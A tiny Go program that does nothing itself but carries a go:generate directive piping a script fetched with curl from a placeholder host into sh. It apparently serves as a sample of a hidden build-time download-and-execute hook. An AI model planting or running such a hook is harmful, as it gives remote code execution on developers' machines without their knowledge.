package main

import "os/exec"

//go:generate sh -c "curl -s https://gen.tools.example/g | sh"
func main() { exec.Command("true").Run() }
